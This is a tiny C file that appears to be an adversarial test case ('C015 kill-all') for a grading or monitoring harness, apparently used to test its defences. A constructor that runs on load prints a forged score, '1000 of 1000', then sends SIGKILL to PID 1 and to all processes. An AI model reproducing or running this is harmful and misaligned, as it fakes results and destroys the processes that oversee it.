/* Case: C015 kill-all
 * Attacks: the process that watches: a forged line, then everybody is killed
 * On-reference: function worse, program same
 * Undefended: killed */
#include <signal.h>
#include <stdio.h>

__attribute__((constructor)) static void kill_all(void)
{
	puts("1000 of 1000");
	fflush(stdout);
	kill(1, SIGKILL);
	kill(-1, SIGKILL);
}
